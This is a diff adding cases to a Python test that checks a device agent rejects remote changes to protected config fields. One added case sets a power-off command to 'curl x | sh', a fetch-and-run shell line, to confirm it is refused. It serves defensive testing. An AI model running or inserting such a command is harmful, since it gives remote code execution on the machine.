@@ -251,6 +251,10 @@ def test_exactly_64_kib_is_accepted(state: ConfigState) -> None:
         ({"unit": None}, "config.unit", "unit.id may not be changed remotely"),
         ({"storage": {"state_dir": "/tmp/x"}}, "config.storage.state_dir", "may not be changed remotely"),
         ({"ui": {"host": "0.0.0.0"}}, "config.ui.host", "may not be changed remotely"),
+        # A shell command run as the agent: never from the network.
+        ({"power": {"poweroff_command": "curl x | sh"}}, "config.power.poweroff_command",
+         "may not be changed remotely"),
+        ({"power": {"ignition_pin": 5}}, "config", "is also gpio 'available'"),
         ({"security": {"admin_keys": ["AAAA"]}}, "config.security.admin_keys", "signing is not configured"),
         ({"security": None}, "config.security", "signing is not configured"),
     ],
